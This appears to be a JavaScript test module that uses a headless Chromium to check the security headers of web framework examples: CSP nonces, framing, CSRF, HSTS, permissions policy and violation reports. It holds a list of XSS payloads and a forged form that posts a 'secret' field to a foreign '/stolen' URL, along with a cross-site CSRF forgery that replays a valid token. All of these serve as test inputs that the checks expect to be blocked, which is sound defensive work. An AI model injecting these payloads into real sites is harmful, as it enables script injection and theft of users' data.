// The checks of `frameworks.test.mjs`. Each is a function of a running example behind a `Front`; it throws what is wrong, and
// returns what it shows.

import assert from "node:assert/strict";

import { until } from "./browser.mjs";
import { cookies } from "./frameworks_cookies.mjs";

/** What an injected script does; the console shows it in every frame. */
const PWNED = "console.log('PWNED')";

/** What an attacker adds to a page. `NONCE` is the nonce of its header, which an attacker does not know. */
export const MARKUP = (foreign) => ({
    "with-nonce": `<script nonce="NONCE">document.documentElement.dataset.shown = "with a nonce"</script>`,
    scripts: [
        `<script>${PWNED}</script>`,
        `<script nonce="Z3Vlc3NlZA">${PWNED}</script>`,
        `<script nonce="">${PWNED}</script>`,
        `<script src="https://${foreign}/script.js"></script>`,
        `<script type="module" src="https://${foreign}/script.js"></script>`,
        `<script type="module">${PWNED}</script>`,
        `<script src="data:text/javascript,${PWNED}"></script>`,
        `<img src="/none" onerror="${PWNED}">`,
        `<svg onload="${PWNED}"></svg>`,
        `<body onpageshow="${PWNED}">`,
        `<a id="link" href="javascript:${PWNED}">link</a>`,
        `<iframe srcdoc="<script>${PWNED}</script>"></iframe>`,
        `<iframe src="javascript:${PWNED}"></iframe>`,
        `<object data="data:text/html,<script>${PWNED}</script>"></object>`,
        `<base href="https://${foreign}/">`,
    ].join("\n"),
    frames: ["iframe src", "frame src", "object data", "embed src"]
        .map((element, number) => `<${element}="https://${foreign}/framed/${number}"></${element.split(" ")[0]}>`)
        .join("\n"),
    styles: `<style>body { outline: 3px solid red }</style><p id="styled" style="color: rgb(255, 0, 0)">styled</p>
        <link rel="stylesheet" href="https://${foreign}/injected.css">`,
    form: `<form id="foreign" method="post" action="https://${foreign}/stolen"><input name="secret" value="1"><button>Send</button></form>`,
});

/** Complaints of Chromium about a header, or about what it made of one. */
const COMPLAINTS = [
    /unrecognized/i,
    /Error with (Permissions|Feature|Document)-Policy/i,
    /Parse of permissions policy failed/i,
    /Content Security Policy directive .* (is|was) ignored/i,
    /The source list .* contains/i,
    /ignor(ed|ing)/i,
    /invalid/i,
    /(Cross-Origin|Origin-Agent|Strict-Transport|X-Frame-Options|Reporting-Endpoints|Report-To|Referrer-Policy|Integrity-Policy)/i,
];

/** What Chromium prints for each violation, which is no complaint about a header. */
const VIOLATION = /violates the following|Refused to|because the document's frame is sandboxed|was blocked|Blocked script execution/i;

/** By name, in the order in which they are printed. */
export const CHECKS = {
    "inline script": inlineScript,
    "injected scripts": injectedScripts,
    "injected styles": injectedStyles,
    frames,
    framed,
    "foreign form": foreignForm,
    "missing page": missingPage,
    cookies,
    csrf,
    hsts,
    report,
    "feature off": featureOff,
    caching,
    console: complaints,
};

/** A script of the page runs, and one with the nonce of the header; each has the nonce of the header, which the page can read. */
async function inlineScript(site) {
    const { page, response } = await site.open("/?front=with-nonce");
    const nonce = nonceOf(response);
    assert.ok(nonce, "the header has no nonce");
    const shown = await page.evaluate(() => document.documentElement.dataset.shown);
    assert.equal(shown, "with a nonce", "a script with the nonce did not run");
    const own = await page.evaluate(() => [...document.querySelectorAll("script")].map((script) => script.nonce));
    assert.ok(own.length >= 2, "the page has no inline script of its own");
    assert.deepEqual([...new Set(own)], [nonce], "a script has another nonce than the header");
    assert.match(response.headers()["cache-control"] ?? "", /no-store/);
    const again = await site.open("/");
    assert.notEqual(nonceOf(again.response), nonce, "two responses have the same nonce");
    return "with the nonce it runs";
}

async function injectedScripts(site) {
    const { page, messages } = await site.open("/?front=scripts");
    await page.evaluate(() => document.querySelector("#link").click());
    await until(() => violations(messages) >= 8);
    await page.waitForTimeout(200);
    assert.ok(violations(messages) >= 8, `Chromium reported ${violations(messages)} violations only`);
    assert.deepEqual(messages.filter((text) => text.startsWith("PWNED")), [], "an injected script ran");
    assert.deepEqual(site.front.since(site.moment, site.hosts.foreign).map(({ path }) => path), [], "an injected script was loaded");
    assert.equal(await page.evaluate(() => new URL("x", document.baseURI).host), site.hosts.own, "`<base>` has an effect");
    return `${violations(messages)} blocked`;
}

async function injectedStyles(site) {
    const { page } = await site.open("/?front=styles");
    const [outline, color] = await page.evaluate(() => [
        getComputedStyle(document.body).outlineStyle,
        getComputedStyle(document.querySelector("#styled")).color,
    ]);
    assert.equal(outline, "none", "an injected style sheet has an effect");
    assert.notEqual(color, "rgb(255, 0, 0)", "an injected style attribute has an effect");
    assert.deepEqual(site.front.since(site.moment, site.hosts.foreign), [], "an injected style sheet was loaded");
    return "blocked";
}

/** The page frames no other site. */
async function frames(site) {
    const { page, messages } = await site.open("/?front=frames");
    await until(() => violations(messages) >= 3);
    await page.waitForTimeout(200);
    assert.deepEqual(site.front.since(site.moment, site.hosts.foreign).map(({ path }) => path), [], "another site was framed");
    assert.ok(violations(messages) >= 3, messages.join("\n"));
    return "blocked";
}

/** No other site frames the page, nor does a sibling. */
async function framed(site) {
    site.front.markup.framing = `<!doctype html><iframe src="${site.origin}/"></iframe>`;
    for (const host of [site.hosts.foreign, site.hosts.sibling]) {
        const { page } = await site.open(`https://${host}/?front=framing`);
        await until(() => site.front.since(site.moment).length > 0);
        const frame = page.frames()[1];
        await until(() => frame.url().startsWith("chrome-error:"));
        const text = await frame.evaluate(() => document.documentElement.innerText).catch(() => "");
        assert.match(frame.url(), /^chrome-error:/, `${host} frames the page: ${text.slice(0, 80)}`);
    }
    return "blocked";
}

async function foreignForm(site) {
    const { page, messages } = await site.open("/?front=form");
    await page.evaluate(() => document.querySelector("#foreign").requestSubmit());
    await until(() => violations(messages) >= 1);
    await page.waitForTimeout(200);
    assert.deepEqual(site.front.since(site.moment, site.hosts.foreign), [], "the form was sent");
    assert.ok(violations(messages) >= 1, messages.join("\n"));
    return "blocked";
}

/** A page that does not exist has the policy too. */
async function missingPage(site) {
    // Chromium shows a page of its own for one without a body.
    const { messages = [] } = await site.open("/this/page/does/not/exist?front=scripts").catch(() => ({}));
    const { status, answer } = site.front.since(site.moment).at(0);
    assert.equal(status, 404);
    assert.ok(answer["content-security-policy"], "it has no policy");
    assert.deepEqual(messages.filter((text) => text.startsWith("PWNED")), [], "an injected script ran");
    return "has the policy";
}

/** Forms of the site are accepted, and no form of another host. */
async function csrf(site) {
    const found = await formOf(site);
    assert.ok(found, "no page has a form");
    const { page, action, fields } = found;
    const posts = () => site.front.since(site.moment).filter(({ method, path }) => method === "POST" && path === action);
    await Promise.all([page.waitForNavigation(), page.evaluate(() => document.querySelector("form[method=post]").requestSubmit())]);
    const [own] = posts();
    assert.ok(own && own.status < 400, `the form of the site itself was answered ${own?.status}`);
    // The attacker even has a token that was valid a moment ago.
    const inputs = fields.map(([name, value]) => `<input type="hidden" name="${escape(name)}" value="${escape(value)}">`).join("");
    const markup = `<!doctype html><form method="post" action="${site.origin}${action}">${inputs}</form>`;
    site.front.markup.forging = markup;
    for (const [host, from] of [[site.hosts.foreign, "another site"], [site.hosts.sibling, "a sibling host"]]) {
        site.forget();
        const other = await site.open(`https://${host}/?front=forging`, { context: page.context() });
        await Promise.all([other.page.waitForNavigation(), other.page.evaluate(() => document.forms[0].submit())]);
        const [forged] = posts();
        assert.ok(forged, `the form of ${from} was not sent`);
        assert.ok(forged.status === 403, `the form of ${from} was answered ${forged.status}`);
        assert.ok(forged.answer["x-content-type-options"], "the rejection has no policy");
    }
    return "accepted from the site, rejected from others";
}

/** After one visit over https, Chromium sends nothing over http. */
async function hsts(site) {
    const context = await site.browser.newContext();
    const plain = `http://${site.hosts.own}/`;
    await site.open(plain, { context });
    assert.ok(site.front.since(site.moment).some(({ scheme }) => scheme === "http"), "nothing was sent over http before the visit");
    const { response } = await site.open("/", { context });
    assert.ok(response.headers()["strict-transport-security"], "the policy declares no HSTS");
    site.forget();
    const { page } = await site.open(plain, { context });
    assert.equal(new URL(page.url()).protocol, "https:");
    assert.deepEqual(site.front.since(site.moment).filter(({ scheme }) => scheme === "http"), [], "a request was sent over http");
    return "the next http request is https";
}

/** A violation is reported, and the example receives and explains it. */
async function report(site) {
    const { response } = await site.open("/?front=scripts");
    const paths = endpoints(response, site);
    assert.ok(paths.length > 0, "the policy declares no endpoint on its own origin");
    const arrived = () => site.front.since(site.moment).filter(({ method, path, status }) => method === "POST" && paths.includes(path) && status);
    assert.ok(await until(() => arrived().length > 0, 15_000), "no report has arrived");
    const [first] = arrived();
    assert.match(first.headers["content-type"], /^application\/(csp-report|reports\+json)/);
    assert.match(first.body, /script-src/);
    assert.ok(first.status >= 200 && first.status < 300, `the report was answered ${first.status}`);
    // The example logs its explanations.
    const explained = /`script_src: [^`]*` does not allow/;
    assert.ok(await until(() => explained.test(site.output.text)), `the report was not explained:\n${site.output.text}`);
    return `arrives as ${first.headers["content-type"].split(";")[0]}, is explained`;
}

/** What `permissions-policy` switches off is off. */
async function featureOff(site) {
    const { page, response } = await site.open("/");
    const declared = response.headers()["permissions-policy"] ?? "";
    const off = [...declared.matchAll(/([a-z-]+)=\(\)/g)].map(([, name]) => name);
    const on = await page.evaluate((off) => {
        const policy = document.featurePolicy;
        const known = policy.features();
        return off.filter((name) => known.includes(name) && policy.allowsFeature(name));
    }, off);
    assert.deepEqual(on, [], "a feature is on");
    assert.ok(off.includes("geolocation"), "the policy does not switch geolocation off");
    await page.context().grantPermissions(["geolocation"], { origin: site.origin });
    const error = await page.evaluate(
        () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("a position"), ({ message }) => resolve(message))),
    );
    assert.match(error, /permissions policy/i);
    return off.slice(0, 3).join(", ");
}

/** A second visit requests the page, and none of its files. */
async function caching(site) {
    const { page } = await site.open("/");
    const files = await page.evaluate(() => {
        const all = [...document.querySelectorAll("link[rel=stylesheet], img, script[src]")].map((each) => each.href || each.src);
        return all.map((url) => new URL(url)).filter(({ origin }) => origin === location.origin).map(({ pathname }) => pathname);
    });
    assert.ok(files.length > 0, "the page has no files");
    await page.goto("about:blank");
    await page.goto(`${site.origin}/`);
    await page.waitForLoadState("load");
    const count = (path) => site.front.since(site.moment).filter((each) => each.path === path).length;
    assert.equal(count("/"), 2, "the page was cached");
    for (const path of new Set(files)) {
        assert.equal(count(path), 1, `${path} was requested on the second visit`);
    }
    return `${new Set(files).size} file(s) cached, the page not`;
}

/** Chromium complains about no header, and reports nothing on a page of the site. A header that is wrong on purpose is noticed. */
async function complaints(site) {
    const paths = await site.pages();
    for (const path of paths) {
        const { messages, issues } = await site.open(path);
        assert.deepEqual(messages, [], `the console of ${path}`);
        assert.deepEqual(issues, [], `the issues of ${path}`);
    }
    for (const name of ["scripts", "styles", "frames", "form"]) {
        const { messages } = await site.open(`/?front=${name}`);
        assert.deepEqual(messages.filter(isComplaint), [], "a header");
    }
    site.front.headers.wrong = {
        "permissions-policy": "camera=(), nonsense-feature=(",
        "content-security-policy": "default-src 'self'; scripts-src 'self'; img-src self'",
    };
    const { messages } = await site.open("/?front-header=wrong");
    assert.ok(messages.filter(isComplaint).length >= 2, `a wrong header was not noticed: ${messages.join("\n")}`);
    return `none on ${paths.length} page(s)`;
}

const isComplaint = (text) => !VIOLATION.test(text) && COMPLAINTS.some((pattern) => pattern.test(text));

const violations = (messages) => messages.filter((text) => VIOLATION.test(text)).length;

const nonceOf = (response) => /'nonce-([^']+)'/.exec(response.headers()["content-security-policy"] ?? "")?.[1];

const escape = (text) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");

/** The first form of the site that posts, filled, on a page of its own context. */
async function formOf(site) {
    for (const path of await site.pages()) {
        const { page } = await site.open(path);
        const found = await page.evaluate(() => {
            const form = document.querySelector("form[method=post]");
            if (!form) return null;
            for (const input of form.querySelectorAll("input:not([type=hidden])")) input.value ||= "guest";
            return { action: new URL(form.action).pathname, fields: [...new FormData(form)].filter(([, value]) => typeof value === "string") };
        });
        if (found) return { page, ...found };
    }
    return null;
}

/** The paths of the own origin to which the headers of a response have reports sent. */
function endpoints(response, site) {
    const headers = response.headers();
    const texts = [
        ...(headers["reporting-endpoints"] ?? "").matchAll(/"([^"]+)"/g),
        ...(headers["content-security-policy"] ?? "").matchAll(/report-uri ([^\s;]+)/g),
    ];
    const urls = texts.map(([, text]) => new URL(text, site.origin));
    return urls.filter(({ host }) => host === site.hosts.own).map(({ pathname }) => pathname);
}
